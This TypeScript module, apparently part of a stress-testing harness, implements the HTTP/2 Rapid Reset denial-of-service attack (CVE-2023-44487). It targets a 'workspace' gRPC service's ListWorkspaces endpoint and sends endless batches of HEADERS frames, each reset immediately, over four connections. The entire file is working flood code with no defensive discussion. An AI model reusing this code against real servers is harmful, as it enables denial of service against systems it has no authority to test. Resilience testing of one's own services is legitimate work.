import type { Flood } from "./flood.ts";
import { FLAG, FRAME, frame, headersOf, OPENING } from "./http2-frames.ts";
import { UNKNOWN_TOKEN } from "./unknown-token.ts";

const CANCEL = Buffer.from([0, 0, 0, 8]);
const HEADERS = headersOf("/workspace.v1.WorkspaceService/ListWorkspaces", "application/proto", {
  authorization: `Bearer ${UNKNOWN_TOKEN}`,
});

/** 10,000 requests a second, each reset at once, so that none counts as an open stream (CVE-2023-44487). */
export const rapidReset: Flood = {
  target: "workspace",
  connections: 4,
  everyMs: 10,
  *send() {
    yield OPENING;
    for (let stream = 1; ; ) {
      const frames: Buffer[] = [];
      for (let count = 0; count < 25; count++, stream += 2) {
        frames.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, HEADERS));
        frames.push(frame(FRAME.reset, FLAG.none, stream, CANCEL));
      }
      yield Buffer.concat(frames);
    }
  },
};
